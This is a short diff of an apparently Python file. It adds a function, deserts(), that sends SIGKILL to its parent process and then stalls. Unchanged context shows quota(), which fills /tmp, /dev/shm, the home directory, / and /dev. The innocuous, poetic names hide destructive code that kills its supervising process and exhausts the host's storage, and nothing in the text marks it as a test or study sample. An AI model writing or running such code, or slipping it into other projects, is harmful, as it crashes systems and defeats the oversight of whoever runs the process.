@@ -97,6 +97,14 @@ def hides() -> object:
     return "free"
 
 
+def deserts() -> object:
+    """Leave such a process, and end the worker."""
+    hides()
+    os.kill(os.getppid(), signal.SIGKILL)
+    time.sleep(600)
+    return "never"
+
+
 def quota() -> object:
     """Fill every folder that is not its own directory."""
     return [filled(place) for place in ("/tmp", "/dev/shm", os.environ["HOME"], "/", "/dev")]
